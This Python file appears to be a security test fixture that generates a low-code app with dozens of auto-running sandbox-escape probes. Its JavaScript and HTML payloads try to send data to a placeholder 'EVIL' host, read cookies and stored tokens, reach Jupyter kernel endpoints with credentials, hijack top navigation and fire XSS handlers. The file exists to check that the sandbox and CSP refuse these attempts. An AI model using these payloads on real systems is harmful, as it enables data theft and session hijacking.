"""Apps made to break out of their frame: what they try, by name."""

from typing import Any

# Every script gets `world`, the worker's real global object, which the usual trick with a constructor gives away.
WORLD = "const world = (() => {}).constructor('return this')();\n"

# `EVIL` is a server of somebody else, `HOST` the Jupyter server that shows the app.
SCRIPTS = {
    "fetch": "return (await world.fetch('EVIL/fetch')).status",
    "fetch of kernels": "return await (await world.fetch('HOST/api/kernels', {credentials: 'include'})).text()",
    "XMLHttpRequest": "const x = new world.XMLHttpRequest(); x.open('GET', 'EVIL/xhr', false); x.send(); return x.status",
    "WebSocket": "return new world.WebSocket('ws://HOSTNAME/api/kernels/1/channels').readyState",
    "EventSource": "return new world.EventSource('EVIL/events').readyState",
    "WebTransport": "return new world.WebTransport('EVIL/transport').state",
    "sendBeacon": "return world.navigator.sendBeacon('EVIL/beacon', 'secret')",
    "importScripts": "return world.importScripts('EVIL/script.js')",
    "dynamic import": "return Object.keys(await import('EVIL/module.js'))",
    "import of a made-up module": "return Object.keys(await import('data:text/javascript,export const a = 1'))",
    "import in new code": "return await world.eval(\"import('EVIL/evaluated.js')\")",
    "font": "return (await new world.FontFace('x', 'url(EVIL/font.woff2)').load()).status",
    "worker of its own": "return String(new world.Worker(world.URL.createObjectURL(new world.Blob(['fetch(`EVIL/w`)']))))",
    "shared worker": "return String(new world.SharedWorker('EVIL/shared.js'))",
    "service worker": "return await world.navigator.serviceWorker.register('EVIL/service.js')",
    "indexedDB": "return String(world.indexedDB.open('x'))",
    "caches": "return await world.caches.keys()",
    "cookieStore": "return await world.cookieStore.getAll()",
    "stored values": "return localStorage.getItem('token') + world.localStorage.getItem('token')",
    "private files": "return String(await world.navigator.storage.getDirectory())",
    "other tabs": "return String(new world.BroadcastChannel('x'))",
    "another port": "return String(new world.MessageChannel().port1)",
    "peer connection": "return String(new world.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]}))",
    "message to the page": "world.postMessage({type: 'call', call: 1, request: {name: 'run-query', query: 'q'}}); return 1",
    "the address of the worker": "return world.location.href",
    "cookies of the page": "return document.cookie",
    "the page around": "return window.parent.document.title + parent.location",
    "the top": "top.location = 'EVIL/top'; return 1",
    "a window": "return String(window.open('EVIL/window'))",
    "the window's opener": "return String(opener.location)",
    "a fresh global": "return new world.ShadowRealm().evaluate('fetch')",
    "web assembly": "return String(new world.WebAssembly.Memory({initial: 1}))",
    "the generator's constructor": "return String((function*(){}).constructor('return this')().next().value.fetch('EVIL/g'))",
    "the asynchronous constructor": "return String((await (async()=>{}).constructor('return this')()).fetch('EVIL/a'))",
    "the caller's stack": "const old = Error.prepareStackTrace; Error.prepareStackTrace = (_, f) => f; const f = new Error().stack;"
    " Error.prepareStackTrace = old; return f.map(g => g.getFunction && g.getFunction()).find(g => g).caller",
    "a deleted function back": "delete world.fetch; return (await Reflect.getPrototypeOf(world).fetch('EVIL/back')).status",
    "a foreign site opened": "await actions.openWebPage('EVIL/open', 'newTab'); return queries.none.data",
    "a query of another app": "const done = await actions.runQuery('deleteOrder'); return done.data",
}

# What a script finds: nothing of it leads out, but it must not hold the link's token either.
LISTED = "const seen = []; for (const e of world.performance.getEntries()) seen.push(e.name); return seen.join(' ')"

HTML = {
    "script": "<script src='EVIL/html.js'></script><script>fetch('EVIL/inline')</script>",
    "handler": "<img src=x onerror=\"fetch('EVIL/onerror')\"><svg onload=\"fetch('EVIL/onload')\"></svg>",
    "image": "<img src='EVIL/image.png'><img srcset='EVIL/set.png 2x'><picture><source srcset='EVIL/p.png'></picture>",
    "frame": "<iframe src='EVIL/frame'></iframe><iframe srcdoc=\"<script>parent.fetch('EVIL/doc')</script>\"></iframe>",
    "plugin": "<object data='EVIL/object'></object><embed src='EVIL/embed'>",
    "form": "<form id=f action='EVIL/form' method=post><input name=a autofocus onfocus='f.submit()'></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/refresh'><base href='EVIL/'>",
    "style sheet": "<link rel=stylesheet href='EVIL/a.css'><style>@import 'EVIL/b.css';</style>",
    "style": "<style>body{background:url(EVIL/c.png)} @font-face{font-family:x;src:url(EVIL/d.woff)} *{font-family:x}</style>",
    "style attribute": "<p style=\"background:url(EVIL/e.png);list-style:image-set('EVIL/f.png' 1x)\">x</p>",
    "hints": "<link rel=dns-prefetch href='EVIL'><link rel=preconnect href='EVIL'><link rel=prefetch href='EVIL/g'>"
    "<link rel=preload as=image href='EVIL/h'><link rel=modulepreload href='EVIL/i.js'>",
    "drawing": "<svg><image href='EVIL/j.png'/><use href='EVIL/k.svg#x'/><foreignObject><img src='EVIL/l.png'>"
    "</foreignObject><script>fetch('EVIL/m')</script><feImage href='EVIL/n.png'/></svg>",
    "media": "<video src='EVIL/v' poster='EVIL/w' autoplay></video><audio src='EVIL/x' autoplay></audio>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('EVIL/math')\"></style></mglyph></table>",
    "link": "<a id=run href=\"javascript:fetch('EVIL/js')\" ping='EVIL/ping'>run</a>",
}

STYLES = ["red;background:url(EVIL/1)", "url(EVIL/2)", "var(--x, url(EVIL/3))", "image-set('EVIL/4' 1x)"]


# What the frame's own thread could do if an app's code ever got there: the policy of the browser is the wall then.
# Each gives what it got, or throws.
PAGE = {
    "cookies": "return document.cookie.length || Promise.reject('empty')",
    "writing a cookie": "document.cookie = 'a=1'; return document.cookie.length || Promise.reject('empty')",
    "localStorage": "return localStorage.length",
    "sessionStorage": "return sessionStorage.length",
    "indexedDB": "return await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })",
    "caches": "return await caches.keys()",
    "service worker": "return await navigator.serviceWorker.register('HOST/tooljet/static/x.js')",
    "private files": "return await navigator.storage.getDirectory()",
    "the document around": "return parent.document.title",
    "the address around": "return parent.location.href",
    "the storage around": "return parent.localStorage.length",
    "the frame's own element": "return frameElement.outerHTML",
    "the top's address": "return top.location.href",
    "leading the top away": "top.location = 'EVIL/top'; return 1",
    "replacing the top": "top.location.replace('EVIL/replace'); return 1",
    "closing and opening": "return window.open('EVIL/window').closed",
    "the opener": "return opener.location.href",
    "fetch": "return (await fetch('EVIL/fetch', {mode: 'no-cors'})).type",
    "fetch of kernels": "return (await fetch('HOST/api/kernels', {credentials: 'include', mode: 'no-cors'})).type",
    "fetch of the API": "return (await fetch('HOST/tooljet/api/apps', {credentials: 'include', mode: 'no-cors'})).type",
    "XMLHttpRequest": "return await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no;"
    " x.open('GET', 'HOST/api/kernels'); x.withCredentials = true; x.send() })",
    "WebSocket": "return await new Promise((ok, no) => { const w = new WebSocket('ws://HOSTNAME/api/kernels/1/channels');"
    " w.onopen = ok; w.onerror = no })",
    "EventSource": "return await new Promise((ok, no) => { const e = new EventSource('EVIL/e'); e.onopen = ok; e.onerror = no })",
    "image": "return await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'EVIL/i' })",
    "script": "return await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok;"
    " s.onerror = no; s.src = 'EVIL/s.js'; document.head.append(s) })",
    "written script": "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
    " document.head.append(s); return window.ran || Promise.reject('not run')",
    "style sheet": "return await new Promise((ok, no) => { const l = document.createElement('link'); l.rel = 'stylesheet';"
    " l.onload = ok; l.onerror = no; l.href = 'EVIL/s.css'; document.head.append(l) })",
    "font": "return (await new FontFace('x', 'url(EVIL/f)').load()).status",
    "dynamic import": "return await import('EVIL/m.js')",
    "worker": "return await new Promise((ok, no) => { const w = new Worker('EVIL/w.js'); w.onmessage = ok; w.onerror = no })",
    "worker from text": "return await new Promise((ok, no) => { const code = `fetch('EVIL/bw', {mode: 'no-cors'})"
    ".then(() => postMessage('out'), () => postMessage('in'))`; const w = new Worker(URL.createObjectURL(new Blob([code])));"
    " w.onmessage = e => e.data === 'out' ? ok(1) : no(e.data); w.onerror = no })",
    "form": "const f = document.createElement('form'); f.action = 'EVIL/form'; f.method = 'post'; document.body.append(f);"
    " f.submit(); return REFUSED('form-action|sandbox')",
    "frame in the frame": "const f = document.createElement('iframe'); f.src = 'EVIL/frame'; document.body.append(f);"
    " return REFUSED('frame-src')",
    "frame of Jupyter": "const f = document.createElement('iframe'); f.src = 'HOST/api/kernels'; document.body.append(f);"
    " return REFUSED('frame-src')",
    "frame from text": "const f = document.createElement('iframe'); f.srcdoc = `<img src='EVIL/srcdoc'>`;"
    " document.body.append(f); await new Promise(ok => { f.onload = ok }); return REFUSED('img-src')",
    "object": "const o = document.createElement('object'); o.data = 'EVIL/o'; document.body.append(o); return REFUSED('object-src')",
    "manifest": "const l = document.createElement('link'); l.rel = 'manifest'; l.href = 'EVIL/manifest'; document.head.append(l);"
    " return Promise.reject('silent')",
    "video": "return await new Promise((ok, no) => { const v = document.createElement('video'); v.onloadeddata = ok;"
    " v.onerror = no; v.src = 'EVIL/v'; document.body.append(v) })",
    "javascript link": "const a = document.createElement('a'); a.href = 'javascript:window.ran=2'; document.body.append(a);"
    " a.click(); return window.ran === 2 || Promise.reject('not run')",
    "link to another window": "const a = document.createElement('a'); a.href = 'EVIL/a'; a.target = '_blank';"
    " document.body.append(a); a.click(); return Promise.reject('silent')",
    "link to the top": "const a = document.createElement('a'); a.href = 'EVIL/t'; a.target = '_top';"
    " document.body.append(a); a.click(); return Promise.reject('silent')",
    "download": "const a = document.createElement('a'); a.href = 'EVIL/d'; a.download = 'x'; document.body.append(a);"
    " a.click(); return Promise.reject('silent')",
    "sendBeacon": "navigator.sendBeacon('EVIL/beacon', 'x'); return REFUSED('connect-src')",
    "ping of a link": "const a = document.createElement('a'); a.href = '#x'; a.ping = 'EVIL/ping'; document.body.append(a);"
    " a.click(); return REFUSED('connect-src')",
    "hints": "for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender']) { const l = document.createElement('link');"
    " l.rel = rel; l.as = 'script'; l.href = 'EVIL/' + rel; document.head.append(l) } return Promise.reject('silent')",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent ="
    " JSON.stringify({prefetch: [{source: 'list', urls: ['EVIL/sp']}]}); document.head.append(s); return Promise.reject('silent')",
    "peer connection": "return String(new RTCPeerConnection())",
    "shared memory of an extension": "return chrome.runtime.id",
    "clipboard": "return await navigator.clipboard.readText()",
    "camera": "return await navigator.mediaDevices.getUserMedia({video: true})",
    "place": "return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))",
    "notification": "return await Notification.requestPermission() === 'granted' || Promise.reject('denied')",
    "full screen": "return await document.documentElement.requestFullscreen()",
    "dialog": "return confirm('Your password?') || Promise.reject('not shown')",
}

# Waits for the browser to say that its policy refused something.
REFUSED = """const REFUSED = wanted => new Promise((ok, no) => {
  document.addEventListener('securitypolicyviolation', event => no(event.effectiveDirective));
});"""


def app(evil: str, host: str, udp: str, hosts: list[str]) -> dict[str, Any]:
    """Return the definition of an app that tries all of it as soon as it is opened."""

    def aimed(text: str) -> str:
        name = host.removeprefix("http://")
        return text.replace("EVIL", evil).replace("HOSTNAME", name).replace("HOST", host).replace("UDP", udp)

    queries = [script(f"s{at}", WORLD + aimed(code)) for at, code in enumerate(SCRIPTS.values())]
    queries.append(script("listed", WORLD + LISTED))
    shown = [text(query["name"], answer(query["name"])) for query in queries]
    html = [component(f"h{at}", "Html", rawHtml=aimed(code)) for at, code in enumerate(HTML.values())]
    look = [text(f"l{at}", "x", backgroundColor=aimed(style)) for at, style in enumerate(STYLES)]
    look += [
        component("picture", "Image", source=f"{evil}/component.png"),
        component("words", "Text", textFormat="markdown", text=f"![x]({evil}/markdown.png) <img src={evil}/in.png>"),
        component("anchor", "Link", linkTarget=f"javascript:fetch('{evil}/target')", linkText="A link"),
        component("icon", "Icon", icon=f"url({evil}/icon)"),
    ]
    return {
        "settings": {"allowedHosts": hosts, "canvasBackgroundColor": aimed(STYLES[0])},
        "homePage": "p",
        "pages": [{"id": "p", "name": "Out", "handle": "out", "components": placed([*shown, *html, *look])}],
        "queries": queries,
    }


def script(name: str, code: str) -> dict[str, Any]:
    """Return a RunJS query that runs as soon as the page is there; what it throws is its answer too."""
    caught = f"try {{ return 'got: ' + await (async () => {{ {code} }})() }} catch (error) {{ return 'refused: ' + error }}"
    return {"id": name, "name": name, "kind": "runjs", "options": {"code": caught, "runOnPageLoad": True}}


def answer(query: str) -> str:
    """Return the binding that shows what a script came to."""
    return f"{{{{`{query} = ${{queries.{query}.data?.length ? queries.{query}.data : 'waiting'}}`}}}}"


def component(name: str, kind: str, **props: Any) -> dict[str, Any]:
    """Return a component."""
    return {"id": name, "name": name, "type": kind, "props": props}


def text(name: str, words: str, **props: Any) -> dict[str, Any]:
    """Return a text."""
    return component(f"text_{name}", "Text", text=words, **props)


def placed(components: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Put components below each other."""
    for at, part in enumerate(components):
        part["layouts"] = {"desktop": {"top": at * 40, "left": 1, "width": 41, "height": 40}}
    return components
